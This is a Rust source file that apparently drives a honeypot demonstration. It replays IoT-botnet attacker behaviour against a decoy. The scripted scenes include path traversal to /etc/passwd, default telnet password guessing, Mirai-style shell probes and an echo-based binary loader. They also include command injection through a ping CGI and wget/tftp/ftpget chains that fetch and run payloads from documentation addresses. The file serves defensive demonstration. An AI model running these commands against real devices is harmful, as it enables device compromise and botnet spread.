//! What the demonstration's attackers do: one row for each scene, from a look at a page to a dropped program.
//!
//! Key type: [`Scene`]. The commands are those that bots are known to send; every address in them is a documentation
//! address (RFC 5737), the dropped program is our own harmless `vectors/samples/beacon.mipsel`.
use super::peer::{Peer, Stage};
use std::future::Future;
use std::io::Result;
use std::net::IpAddr;
use std::pin::Pin;

/// A scene while it is played.
type Play<'a> = Pin<Box<dyn Future<Output = Result<()>> + Send + 'a>>;

/// The harmless program: prints, forks, connects to a documentation address, ends.
static BEACON: &[u8] = include_bytes!("../../../../vectors/samples/beacon.mipsel");
/// Bytes that one `echo` brings.
const ECHO_BYTES: usize = 64;

/// One attacker's visit.
pub struct Scene {
    /// plays it, shown as that source
    pub play: for<'a> fn(&'a Stage, IpAddr) -> Play<'a>,
}

/// In the order of the first round; the one with the most to see comes early.
pub static SCENES: &[Scene] = &[
    Scene { play: |stage, source| Box::pin(scan_pages(stage, source)) },
    Scene { play: |stage, source| Box::pin(echo_loader(stage, source)) },
    Scene { play: |stage, source| Box::pin(guess_passwords(stage, source)) },
    Scene { play: |stage, source| Box::pin(probe_shell(stage, source)) },
    Scene { play: |stage, source| Box::pin(inject_command(stage, source)) },
    Scene { play: |stage, source| Box::pin(download(stage, source)) },
];

/// A scanner looks at a few pages.
async fn scan_pages(stage: &Stage, source: IpAddr) -> Result<()> {
    for target in ["/", "/login.htm", "/cgi-bin/../../../../etc/passwd"] {
        let mut peer = stage.connect(stage.http, source).await?;
        peer.send(request(target)).await?;
        peer.drain().await?;
    }
    let mut peer = stage.connect(stage.http, source).await?;
    let body = "user=admin&password=admin";
    let head = format!("POST /login.cgi HTTP/1.0\r\nContent-Length: {}\r\n\r\n", body.len());
    peer.send(head + body).await?;
    peer.drain().await
}

fn request(target: &str) -> String {
    format!("GET {target} HTTP/1.0\r\nHost: 198.51.100.1\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n")
}

/// Three wrong pairs, as from a list.
async fn guess_passwords(stage: &Stage, source: IpAddr) -> Result<()> {
    let mut peer = stage.connect(stage.telnet, source).await?;
    for (user, password) in [("root", "toor"), ("admin", "letmein"), ("ftp", "ftp")] {
        peer.try_pair(user, password).await?;
    }
    peer.drain().await
}

async fn log_in(stage: &Stage, source: IpAddr, user: &str, password: &str) -> Result<Peer> {
    let mut peer = stage.connect(stage.telnet, source).await?;
    peer.try_pair(user, password).await?;
    peer.until("# ").await?;
    Ok(peer)
}

/// What Mirai's children ask a shell before they trust it.
async fn probe_shell(stage: &Stage, source: IpAddr) -> Result<()> {
    let mut peer = log_in(stage, source, "root", "xc3511").await?;
    for line in [
        "enable",
        "system",
        "shell",
        "sh",
        "/bin/busybox ECCHI",
        "/bin/busybox ps; /bin/busybox ECCHI",
        "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
        "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon",
        "dd bs=52 count=1 if=/bin/busybox 2>/dev/null | wc -c",
        "uname -a",
    ] {
        peer.line(line).await?;
    }
    peer.send("exit\r\nexit\r\n").await?;
    peer.drain().await
}

/// Brings a program through the shell itself, byte by byte, and runs it.
async fn echo_loader(stage: &Stage, source: IpAddr) -> Result<()> {
    let mut peer = log_in(stage, source, "root", "vizxv").await?;
    peer.line("cd /tmp").await?;
    for line in loader_lines(BEACON, ".d") {
        peer.line(&line).await?;
    }
    peer.line("chmod 777 .d; ./.d").await?;
    peer.line("rm -f .d").await?;
    peer.send("exit\r\n").await?;
    peer.drain().await
}

/// The `echo` lines that write `program` to `file`.
fn loader_lines(program: &[u8], file: &str) -> Vec<String> {
    let escaped = |part: &[u8]| part.iter().map(|byte| format!("\\x{byte:02x}")).collect::<String>();
    let parts = program.chunks(ECHO_BYTES).enumerate();
    parts
        .map(|(i, part)| format!("echo -ne \"{}\" {} {file}", escaped(part), if i == 0 { ">" } else { ">>" }))
        .collect()
}

/// A command behind a semicolon in a diagnostic page.
async fn inject_command(stage: &Stage, source: IpAddr) -> Result<()> {
    for command in ["id;cat+/proc/cpuinfo", "cd+/tmp;wget+http://203.0.113.66/bins/cam.mipsel;sh+cam.mipsel"]
    {
        let mut peer = stage.connect(stage.http, source).await?;
        peer.send(request(&format!("/cgi-bin/ping.cgi?address=127.0.0.1;{command}"))).await?;
        peer.drain().await?;
    }
    Ok(())
}

/// The usual chain of downloaders; the decoy notes the URLs and lets none of them out.
async fn download(stage: &Stage, source: IpAddr) -> Result<()> {
    let mut peer = log_in(stage, source, "admin", "admin").await?;
    for line in [
        "cd /tmp || cd /var/run || cd /mnt",
        "wget http://198.51.100.23/bins/mirai.mipsel -O .m || tftp -g -r mirai.mipsel -l .m 198.51.100.23",
        "ftpget -u anonymous -p x 203.0.113.80 .f mirai.mipsel",
        "chmod +x .m; ./.m; rm -f .m .f",
    ] {
        peer.line(line).await?;
    }
    peer.send("exit\r\n").await?;
    peer.drain().await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_loader_lines_bring_the_program_exactly() {
        let lines = loader_lines(BEACON, ".d");
        let mut bytes = Vec::new();
        for (i, line) in lines.iter().enumerate() {
            let (text, rest) = line.strip_prefix("echo -ne \"").unwrap().split_once('"').unwrap();
            assert_eq!(rest, if i == 0 { " > .d" } else { " >> .d" });
            bytes.extend(text.split("\\x").skip(1).map(|digits| u8::from_str_radix(digits, 16).unwrap()));
        }
        assert_eq!(bytes, BEACON);
        assert!(lines.iter().all(|line| line.len() < 512), "fits a line editor");
    }
}
